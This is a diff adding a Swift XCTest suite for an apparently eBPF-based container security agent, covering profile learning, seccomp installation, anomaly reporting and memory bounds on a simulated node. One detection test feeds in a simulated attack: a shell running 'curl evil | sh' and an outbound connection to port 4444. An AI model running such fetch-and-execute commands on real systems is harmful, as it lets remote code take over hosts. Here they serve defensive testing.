@@ -1,0 +1,348 @@
+import CVigilABI
+import Foundation
+import VigilAgent
+import VigilCore
+import VigilProfiles
+import VigilRuntime
+import VigilTestSupport
+import XCTest
+
+/// The agent's whole pipeline — naming containers, learning, monitoring, the end of learning,
+/// seccomp installation, retirement — on a simulated node: a recorded kernel that applies the BPF
+/// programs' rules, a directory for the cgroup tree, runc's state files. No root, no BPF.
+final class AgentPipelineTests: XCTestCase {
+    private var node: SimulatedNode!
+
+    override func setUpWithError() throws {
+        node = try SimulatedNode()
+    }
+
+    override func tearDown() {
+        node.remove()
+    }
+
+    private func quickLearning() -> AgentConfiguration {
+        var configuration = node.configuration()
+        configuration.learning.minDuration = 60
+        configuration.learning.quietPeriod = 10
+        return configuration
+    }
+
+    private let workloadKey = "shop/deployment/web/server"
+
+    /// An agent whose one workload (web) is stable, with its container still running.
+    private func stableWeb(retireAfter: Double) throws -> (NodeAgent, SimulatedNode.Container) {
+        var configuration = quickLearning()
+        configuration.learning.retireAfter = retireAfter
+        let agent = try node.agent(configuration)
+        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
+        node.exec(web, exe: "/usr/bin/python3")
+        try node.settle(agent)
+        agent.registry.stabilize(workloadKey)
+        return (agent, web)
+    }
+
+    // MARK: identity
+
+    /// A container is named from its cgroup path and runc's state off the event path; its first
+    /// events, sent before it was named, wait and are learned under its workload's name.
+    func testContainersAreNamedAndTheirFirstEventsAreKept() throws {
+        let agent = try node.agent(quickLearning())
+        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
+        node.exec(web, exe: "/usr/bin/python3")
+        node.write(web, path: "/tmp/cache.db")
+        try agent.poll(timeoutMilliseconds: 0)
+        // No state yet: the namer keeps looking, the events wait.
+        XCTAssertEqual(agent.pipeline.pendingEvents.events, 2)
+        XCTAssertNil(agent.workloadStates[workloadKey])
+
+        try node.writeState(web)
+        try node.settle(agent)
+        XCTAssertEqual(agent.pipeline.pendingEvents.events, 0)
+        XCTAssertEqual(agent.workloadStates[workloadKey], .learning)
+        let profile = try XCTUnwrap(agent.registry.workload(workloadKey).snapshot)
+        XCTAssertEqual(profile.execs.map(\.exe), ["/usr/bin/python3"])
+        XCTAssertEqual(profile.fileWrites.map(\.path), ["/tmp/cache.db"])
+        XCTAssertEqual(profile.learning.events, 2)
+        XCTAssertEqual(agent.drops.total, 0)
+    }
+
+    /// Replicas of a deployment are one workload; a pod of an excluded namespace leaves the
+    /// kernel's watch list once named, and nothing of it is learned.
+    func testReplicasShareAProfileAndExcludedNamespacesAreUnwatched() throws {
+        var configuration = quickLearning()
+        configuration.namespaces.exclude = ["kube-system"]
+        let agent = try node.agent(configuration)
+        let first = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
+        let second = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-q8r7t")
+        let dns = try node.startContainer(namespace: "kube-system", pod: "coredns-5d78c9869d-abcde", name: "coredns")
+        node.exec(first, exe: "/usr/bin/python3")
+        node.exec(second, exe: "/usr/bin/gunicorn")
+        node.exec(dns, exe: "/coredns")
+        try node.settle(agent)
+        try agent.poll(timeoutMilliseconds: 0)
+
+        XCTAssertEqual(Set(agent.workloadStates.keys), [workloadKey])
+        let profile = try XCTUnwrap(agent.registry.workload(workloadKey).snapshot)
+        XCTAssertEqual(Set(profile.execs.map(\.exe)), ["/usr/bin/python3", "/usr/bin/gunicorn"])
+        XCTAssertEqual(profile.learning.containers, 2)
+        XCTAssertTrue(node.kernel.isWatched(cgroupID: first.cgroupID))
+        XCTAssertFalse(node.kernel.isQuiet(cgroupID: first.cgroupID))
+        XCTAssertTrue(node.kernel.isQuiet(cgroupID: dns.cgroupID), "an excluded namespace's container is still reported")
+        node.exec(dns, pid: 300, exe: "/bin/sh")
+        try node.settle(agent)
+        XCTAssertEqual(node.kernel.pendingRecords, 0)
+        XCTAssertEqual(agent.drops.total, 0)
+        // Quiet, not forgotten by the kernel: its removal is reported, and the agent forgets it.
+        let held = agent.rememberedCgroups
+        try node.stopContainer(dns)
+        try node.settle(agent)
+        XCTAssertEqual(agent.rememberedCgroups, held - 2, "the excluded container's cgroup and its pod's are forgotten")
+    }
+
+    /// A container whose runtime state never appears is given up on: its waiting events are
+    /// dropped and counted (`unidentified`), and an `agent.drops` line says so.
+    func testEventsOfAContainerThatCannotBeNamedAreCounted() throws {
+        var settings = PodDirectory.Settings()
+        settings.namespaces.exclude = []
+        settings.nameTimeout = 0.2
+        let directory = PodDirectory(hierarchy: node.hierarchy, stateRoots: [node.stateRoot], podMetadata: nil, settings: settings)
+        let printer = EventPrinter(node: "sim", sink: node.sink)
+        let pipeline = try EventPipeline(kernel: node.kernel, directory: directory, consumer: printer, sink: node.sink, node: "sim")
+        try node.kernel.watch(cgroupID: try node.hierarchy.id(of: node.kubepods + "/besteffort"))
+        let ghost = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
+        for pid in 0..<3 { node.exec(ghost, pid: 100 + UInt32(pid), exe: "/bin/sh") }
+        try pipeline.poll(timeoutMilliseconds: 0)
+        XCTAssertEqual(pipeline.pendingEvents.events, 3)
+
+        let deadline = Date().addingTimeInterval(10)
+        while directory.unresolved > 0 && Date() < deadline {
+            usleep(20_000)
+            try pipeline.poll(timeoutMilliseconds: 0)
+        }
+        XCTAssertEqual(pipeline.pendingEvents.events, 0)
+        XCTAssertEqual(pipeline.dropCounts()[.unidentified, .exec], 3)
+        pipeline.reportDrops()
+        let drops = try node.sink.objects(kind: "agent.drops")
+        XCTAssertEqual(drops.count, 1)
+        XCTAssertEqual(drops.first?[path: "drops.stage"] as? String, "unidentified")
+        XCTAssertEqual(drops.first?[path: "drops.count"] as? Int, 3)
+        XCTAssertTrue(try node.sink.objects(kind: "process.exec").isEmpty)
+    }
+
+    /// The queue of events waiting for names is bounded per container: past it, events are
+    /// dropped and counted, never kept without limit.
+    func testPendingQueueOverflowIsCounted() throws {
+        let agent = try node.agent(quickLearning())
+        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
+        let perContainer = PendingEvents().perContainer
+        for i in 0..<(perContainer + 44) { node.write(web, path: "/tmp/f\(i)") }
+        try agent.poll(timeoutMilliseconds: 0)
+        XCTAssertEqual(agent.pipeline.pendingEvents.events, perContainer)
+        XCTAssertEqual(agent.drops[.unidentified, .file], 44)
+
+        try node.writeState(web)
+        try node.settle(agent)
+        XCTAssertEqual(agent.pipeline.pendingEvents.events, 0)
+        XCTAssertEqual(agent.registry.workload(workloadKey).profile?.learning.events, perContainer)
+    }
+
+    /// Events still waiting for a name when the agent stops (SIGTERM) are counted, and said so.
+    func testEventsWaitingAtStopAreCounted() throws {
+        let agent = try node.agent(quickLearning())
+        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
+        for pid in 0..<3 { node.exec(web, pid: 100 + UInt32(pid), exe: "/bin/sh") }
+        try agent.stop()
+        XCTAssertEqual(agent.pipeline.pendingEvents.events, 0)
+        XCTAssertEqual(agent.drops[.unidentified, .exec], 3)
+        XCTAssertEqual(try node.sink.objects(kind: "agent.drops").first?[path: "drops.count"] as? Int, 3)
+    }
+
+    /// A container that stops before it is named (a short job) is learned all the same: its
+    /// removal waits for its name, and its last syscalls come with it.
+    func testAContainerRemovedWhileBeingNamedIsStillLearned() throws {
+        let agent = try node.agent(quickLearning())
+        let job = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z", writeState: false)
+        node.exec(job, exe: "/usr/bin/python3")
+        let getrandom = 318
+        try node.stopContainer(job, lastSyscalls: [getrandom])
+        try agent.poll(timeoutMilliseconds: 0)
+        XCTAssertGreaterThanOrEqual(agent.pipeline.removalsAwaitingNames, 1, "the container's cgroup (and its pod's, unless named already)")
+        try node.writeState(job)
+        try node.settle(agent)
+        XCTAssertEqual(agent.pipeline.removalsAwaitingNames, 0)
+        let profile = try XCTUnwrap(agent.registry.workload(workloadKey).snapshot)
+        XCTAssertEqual(profile.execs.map(\.exe), ["/usr/bin/python3"])
+        XCTAssertTrue(profile.syscalls.x86_64.contains("getrandom"))
+        XCTAssertEqual(profile.learning.stoppedContainers, 1)
+        XCTAssertEqual(agent.knownContainers, 0)
+        XCTAssertEqual(agent.rememberedCgroups, 2, "only the watched roots are left") // kubepods, besteffort
+    }
+
+    // MARK: learning → monitoring
+
+    /// The end-of-learning rule makes the profile stable: it is saved, its known behaviour goes
+    /// into the kernel (known events are dropped there), its seccomp profile is installed; what it
+    /// lacks is an anomaly labelled with the pod.
+    func testStableProfileIsEnforcedInTheKernelAndReported() throws {
+        let agent = try node.agent(quickLearning())
+        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
+        node.exec(web, exe: "/usr/bin/python3")
+        node.connect(web, to: [10, 0, 0, 7], port: 5432)
+        try node.settle(agent)
+        node.kernel.recordSyscalls(syscalls(["read", "write", "openat", "close", "futex"]), cgroupID: web.cgroupID)
+        try agent.tick()
+        XCTAssertEqual(agent.workloadStates[workloadKey], .learning)
+
+        try agent.tick(now: Date().addingTimeInterval(120))
+        agent.waitForWrites()
+        XCTAssertEqual(agent.workloadStates[workloadKey], .stable)
+        let saved = try XCTUnwrap(try DirectoryProfileStore(root: node.configuration().profiles).latest(workload: workloadKey))
+        XCTAssertEqual(saved.state, .stable)
+        XCTAssertTrue(saved.syscalls.x86_64.contains("futex"))
+        let states = try node.sink.objects(kind: "profile.state")
+        XCTAssertEqual(states.last?[path: "profile.seccomp"] as? String, "installed", "\(states)")
+        let installed = try XCTUnwrap(states.last?[path: "profile.seccomp_profile"] as? String)
+        XCTAssertTrue(FileManager.default.fileExists(atPath: node.configuration().seccompRoot + "/" + installed))
+        XCTAssertGreaterThan(node.kernel.knownEntries, 0)
+        XCTAssertEqual(node.kernel.profileID(of: web.cgroupID), agent.registry.workload(workloadKey).profileID)
+
+        node.sink.removeAll()
+        node.exec(web, pid: 200, exe: "/usr/bin/python3")
+        node.connect(web, pid: 200, to: [10, 0, 0, 7], port: 5432)
+        node.exec(web, pid: 201, exe: "/bin/sh", parent: "/usr/bin/python3", args: ["sh", "-c", "curl evil | sh"])
+        node.connect(web, pid: 201, to: [203, 0, 113, 9], port: 4444)
+        try agent.poll(timeoutMilliseconds: 0)
+        try agent.tick(now: Date().addingTimeInterval(121))
+        XCTAssertEqual(node.kernel.suppressedCounts()[.exec], 1)
+        XCTAssertEqual(node.kernel.suppressedCounts()[.network], 1)
+        let anomalies = try node.sink.objects(kind: "anomaly")
+        XCTAssertEqual(Set(anomalies.compactMap { $0[path: "anomaly.rule"] as? String }), ["unexpected-exec", "unexpected-egress"])
+        for anomaly in anomalies {
+            XCTAssertEqual(anomaly[path: "workload.pod"] as? String, "web-7d4b9c6f5-x2x9z")
+            XCTAssertEqual(anomaly[path: "workload.id"] as? String, workloadKey)
+            XCTAssertEqual(anomaly[path: "anomaly.profile.state"] as? String, "stable")
+        }
+        XCTAssertEqual(agent.registry.checkedEvents, 2, "known events reached userspace")
+    }
+
+    /// An agent restarted mid-learning continues the checkpointed profile; one restarted after
+    /// the profile became stable monitors from the start.
+    func testRestartContinuesFromTheStore() throws {
+        do {
+            let agent = try node.agent(quickLearning())
+            let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
+            node.exec(web, exe: "/usr/bin/python3")
+            try node.settle(agent)
+            agent.checkpointAll()
+        }
+        let restarted = try node.agent(quickLearning())
+        let again = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-a1b2c")
+        node.exec(again, exe: "/usr/bin/gunicorn")
+        try node.settle(restarted)
+        let profile = try XCTUnwrap(restarted.registry.workload(workloadKey).snapshot)
+        XCTAssertEqual(Set(profile.execs.map(\.exe)), ["/usr/bin/python3", "/usr/bin/gunicorn"])
+        XCTAssertEqual(profile.version, 1)
+    }
+
+    // MARK: retirement and bounds
+
+    /// A workload none of whose containers ran for `retireAfter` leaves memory and its known
+    /// behaviour the kernel; a new container of it brings it back from the store, stable.
+    func testWorkloadsWithoutContainersAreRetired() throws {
+        let (agent, web) = try stableWeb(retireAfter: 300)
+        XCTAssertGreaterThan(node.kernel.knownEntries, 0)
+
+        try node.stopContainer(web)
+        try node.settle(agent)
+        try agent.tick(now: Date().addingTimeInterval(100))
+        XCTAssertEqual(agent.workloadStates[workloadKey], .stable, "retired before retireAfter")
+        try agent.tick(now: Date().addingTimeInterval(301))
+        agent.waitForWrites()
+        XCTAssertNil(agent.workloadStates[workloadKey])
+        XCTAssertEqual(node.kernel.knownEntries, 0)
+        XCTAssertEqual(agent.registry.retiredWorkloads, 1)
+
+        let back = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-q8r7t")
+        node.exec(back, exe: "/usr/bin/python3")
+        try node.settle(agent)
+        XCTAssertEqual(agent.workloadStates[workloadKey], .stable)
+        XCTAssertGreaterThan(node.kernel.knownEntries, 0)
+        // Its first exec came before it was named (checked here); from then on known behaviour
+        // stops in the kernel.
+        XCTAssertEqual(agent.registry.checkedEvents, 1)
+        node.exec(back, pid: 101, exe: "/usr/bin/python3")
+        try node.settle(agent)
+        XCTAssertEqual(node.kernel.suppressedCounts()[.exec], 1)
+        XCTAssertEqual(agent.registry.findings, [:])
+    }
+
+    /// A cgroup_rmdir record lost to a full ring buffer does not leave the container held for
+    /// ever: the loss is counted by the kernel, and the agent checks what it holds against the
+    /// kernel's watch list.
+    func testALostRemovalRecordIsRecoveredFrom() throws {
+        let agent = try node.agent(quickLearning())
+        let web = try node.startContainer(namespace: "shop", pod: "web-7d4b9c6f5-x2x9z")
+        node.exec(web, exe: "/usr/bin/python3")
+        try node.settle(agent)
+        XCTAssertEqual(agent.knownContainers, 1)
+
+        // The kernel forgets the cgroup (cgroup_rmdir deletes its entry) but the record is lost.
+        node.kernel.unwatch(cgroupID: web.cgroupID)
+        node.kernel.unwatch(cgroupID: web.podCgroupID)
+        node.kernel.drops[.ringBufferFull, .cgroup] += 2
+        try node.hierarchy.remove(web.podPath)
+        agent.pipeline.reportDrops()
+        XCTAssertEqual(agent.knownContainers, 0)
+        XCTAssertEqual(agent.rememberedCgroups, 2, "only the watched roots are left")
+        XCTAssertEqual(agent.registry.workload(workloadKey).profile?.learning.containers, 1)
+        XCTAssertEqual(try node.sink.objects(kind: "agent.drops").first?[path: "drops.event_kind"] as? String, "cgroup")
+    }
+
+    /// The bound: 10,000 distinct anomalies and 1,000 short-lived containers through the
+    /// pipeline leave no more state behind than a handful: folds capped, nothing pending, every
+    /// container and cgroup forgotten, retired workloads gone from memory and from the kernel.
+    func testMemoryStaysFlatUnderDistinctAnomaliesAndChurn() throws {
+        let (agent, web) = try stableWeb(retireAfter: 60)
+        let watchedAtRest = node.kernel.watchedCount
+
+        for i in 0..<10_000 { node.write(web, pid: 300, path: "/tmp/unexpected-\(i)") }
+        try agent.poll(timeoutMilliseconds: 0)
+        try agent.tick()
+        XCTAssertEqual(agent.registry.findings, [.unexpectedFileWrite: 10_000])
+        let maximumFolds = AnomalyReporter.Settings().maximumFolds
+        XCTAssertLessThanOrEqual(agent.registry.foldCount, maximumFolds)
+
+        var now = Date()
+        for batch in 0..<10 {
+            var containers: [SimulatedNode.Container] = []
+            for i in 0..<100 {
+                let job = try node.startContainer(namespace: "batch", pod: "job\(batch)x\(i)-abcde", name: "task")
+                node.exec(job, exe: "/usr/bin/task\(i % 3)")
+                containers.append(job)
+            }
+            try node.settle(agent)
+            for job in containers { try node.stopContainer(job, lastSyscalls: [0, 1]) }
+            try node.settle(agent)
+            now = now.addingTimeInterval(61)
+            try agent.tick(now: now)
+        }
+        agent.waitForWrites()
+        XCTAssertEqual(agent.pipeline.pendingEvents.events, 0)
+        XCTAssertEqual(agent.pipeline.removalsAwaitingNames, 0)
+        XCTAssertEqual(agent.knownContainers, 1, "containers of stopped pods are held")
+        XCTAssertEqual(agent.rememberedCgroups, 2 + 1 + 1, "cgroups of stopped pods are held") // kubepods, besteffort, web's pod, web
+        XCTAssertEqual(node.kernel.watchedCount, watchedAtRest)
+        XCTAssertLessThanOrEqual(agent.registry.foldCount, maximumFolds)
+        XCTAssertEqual(agent.registry.workloads.count, 1, "workloads without containers are kept: \(agent.registry.workloads.keys)")
+        XCTAssertEqual(agent.registry.retiredWorkloads, 1000)
+        XCTAssertEqual(agent.drops.total, 0)
+    }
+
+    private func syscalls(_ names: [String]) -> CgroupSyscalls {
+        var bitmap = SyscallBitmap()
+        let numbers = ["read": 0, "write": 1, "openat": 257, "close": 3, "futex": 202]
+        for name in names { bitmap.insert(numbers[name]!, abi: .x86_64) }
+        return CgroupSyscalls(workload: bitmap)
+    }
+}
